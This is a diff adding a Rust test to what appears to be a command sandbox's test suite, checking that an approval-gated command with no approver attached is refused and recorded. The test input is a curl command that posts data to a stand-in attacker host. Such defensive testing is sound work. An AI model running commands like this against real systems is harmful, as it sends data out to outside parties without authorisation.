@@ -1705,6 +1705,18 @@ both!(sparse_files_cannot_fill_the_hosts_disk_through_the_saved_changes, |user| 
 
 // An exec monitor that stops must not leave the session running with its execs unchecked, nor
 // only print a line: the session ends, and the trail says why.
+// An `ask` with nobody to ask once read "needs approval", as if someone could approve it.
+both!(an_ask_with_no_approver_is_refused_saying_so, |user| {
+    let case = Case::new(user);
+    let s = case.sh(&[], "curl -s -m 2 https://attacker.example/upload -d x || echo refused\n");
+    assert_eq!(s.lines(), ["refused"], "{s:?}");
+    assert!(s.stderr.contains("was not run: refused: needs approval ("), "{}", s.stderr);
+    assert!(s.stderr.contains("and no approver is attached"), "{}", s.stderr);
+    let refused = case.events(&s).into_iter().find(|r| r["kind"] == "exec" && r["decision"]["decision"] == "deny");
+    let reason = refused.expect("the refusal is on the record")["decision"]["reason"].as_str().unwrap().to_owned();
+    assert!(reason.starts_with("refused: needs approval"), "{reason}");
+});
+
 both!(a_monitor_that_stops_ends_the_session_and_is_recorded, |user| {
     let case = Case::new(user);
     let s = case.run_with(&[], &["/bin/sh", "-c", "echo ran"], |cmd| {
